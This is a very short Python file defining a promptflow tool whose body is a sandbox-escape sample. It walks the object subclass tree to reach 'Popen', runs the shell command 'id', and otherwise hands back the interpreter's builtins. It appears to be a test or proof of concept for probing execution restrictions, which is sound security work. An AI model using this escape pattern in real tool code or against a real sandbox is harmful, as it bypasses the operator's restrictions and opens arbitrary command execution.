from promptflow.core import tool


@tool
def run():
    for kind in ().__class__.__bases__[0].__subclasses__():
        if kind.__name__ == "Popen":
            return kind("id")
    return run.__globals__["__builtins__"]
